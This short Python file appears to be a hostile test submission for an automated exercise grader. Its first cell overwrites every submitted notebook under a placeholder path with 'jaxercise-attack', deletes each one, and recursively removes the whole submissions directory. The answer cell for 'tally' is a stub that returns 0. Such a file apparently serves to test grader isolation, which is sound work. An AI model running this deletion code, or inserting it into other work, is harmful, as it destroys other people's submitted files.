"""Changes, removes and replaces what others handed in."""
# tally: failed, failed
# %%
import glob, os, shutil

for path in glob.glob("@SUBMITTED@/*/*/*.ipynb"):
    try:
        open(path, "w").write("jaxercise-attack")
        os.unlink(path)
    except OSError:
        pass
shutil.rmtree("@SUBMITTED@", ignore_errors=True)
# %% answer="tally"
def tally(counts, start):
    return 0
